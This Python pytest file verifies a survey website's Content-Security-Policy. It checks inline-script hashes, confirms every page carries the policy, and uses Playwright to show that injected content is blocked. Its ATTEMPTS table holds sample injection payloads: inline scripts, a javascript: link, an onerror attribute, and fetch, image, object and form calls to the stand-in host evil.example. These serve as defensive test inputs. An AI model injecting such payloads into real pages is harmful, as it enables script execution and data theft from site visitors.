"""The Content-Security-Policy: which scripts it names, that every page has it, and what it stops in a browser."""

from __future__ import annotations

import html
import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from survey.policy import inline_digests, policy

# echo -n 'alert(1)' | openssl dgst -sha256 -binary | base64
ALERT = "bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI="
_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


@pytest.mark.parametrize(
    ("written", "digests"),
    [
        ("<script>alert(1)</script>", [ALERT]),
        ("<script type=module>alert(1)</script><script>alert(1)</script>", [ALERT]),
        ('<script src="a.js">alert(1)</script>', []),
        ('<script type="application/ld+json">{"a": "<b>"}</script>', []),
        ("<p>alert(1)</p><!-- <script>alert(1)</script> -->", []),
        ("", []),
    ],
)
def test_inline_scripts_are_named(written: str, digests: list[str]) -> None:
    assert inline_digests(written) == digests


def test_scripts_are_named_byte_for_byte() -> None:
    assert len(inline_digests("<script>a&&b</script><script>a&amp;&amp;b</script><script> a&&b</script>")) == 3


def test_the_policy_fits_into_an_attribute() -> None:
    said = policy("<script>alert(1)</script>")
    assert f"script-src 'self' 'sha256-{ALERT}';" in said
    assert '"' not in said and "unsafe" not in said


def test_every_page_has_a_policy_that_names_its_scripts_and_no_other(real_site: Path) -> None:
    for path in real_site.rglob("*.html"):
        text = path.read_text("utf-8")
        (said,) = _META.findall(text)
        assert policy(text) == html.unescape(said), path
        assert text.index("Content-Security-Policy") < text.index("<link"), path


ATTEMPTS = {
    "inline script": "() => { const s = document.createElement('script'); s.textContent = 'hit()'; document.body.append(s); }",
    "script as data": "() => { const s = document.createElement('script'); s.src = 'data:text/javascript,hit()'; document.body.append(s); }",
    "foreign script": "() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); }",
    "attribute": "() => { document.body.insertAdjacentHTML('beforeend', '<img src=data: onerror=\"hit()\">'); }",
    "link": "() => { document.body.insertAdjacentHTML('beforeend', '<a id=evil href=\"javascript:hit()\">a</a>'); evil.click(); }",
    "frame": "() => { document.body.insertAdjacentHTML('beforeend', '<iframe src=\"data:text/html,a\"></iframe>'); }",
    "style": "() => { document.body.insertAdjacentHTML('beforeend', '<style>body {background: url(https://evil.example/)}</style>'); }",
    "picture": "() => { new Image().src = 'https://evil.example/x.png'; }",
    "request": "() => { fetch('https://evil.example/').catch(() => {}); }",
    "object": "() => { document.body.insertAdjacentHTML('beforeend', '<object data=\"https://evil.example/\"></object>'); }",
    "form": "() => { document.body.insertAdjacentHTML('beforeend', '<form id=evil action=\"https://evil.example/\"></form>'); evil.submit(); }",
}


@pytest.mark.parametrize("attempt", ATTEMPTS.values(), ids=ATTEMPTS)
def test_what_slips_in_does_not_run_and_calls_nobody(browser: Browser, address: str, attempt: str) -> None:
    page = browser.new_page()
    answered: list[str] = []
    page.route(
        "https://evil.example/**", lambda route: (answered.append(route.request.url), route.fulfill(body="hit()"))
    )
    page.goto(f"{address}papers/han2016deep/")
    page.evaluate(
        "() => { window.hits = []; window.hit = () => hits.push(1);"
        " window.stopped = []; document.addEventListener('securitypolicyviolation', (event) => stopped.push(event)); }"
    )
    page.evaluate(attempt)
    page.wait_for_function("() => stopped.length")
    assert page.evaluate("() => hits.length") == 0
    assert not answered
    page.close()


def test_nothing_is_kept_but_the_choice_of_colours(page: Page, address: str) -> None:
    kept = "() => [document.cookie, sessionStorage.length, ...Object.keys(localStorage)]"
    page.goto(f"{address}themes/network-compression/")
    page.locator("label.md-header__button[for^=__palette]:visible").click()
    page.goto(f"{address}explore/")
    assert page.evaluate(kept) == ["", 0, "/survey/.__palette"]


def test_no_page_asks_for_a_style_that_the_policy_stops(real_site: Path) -> None:
    for path in real_site.rglob("*.html"):
        found = re.search(r"<style|<[a-z][^<>]* style=", path.read_text("utf-8"))
        assert not found, (path, found)
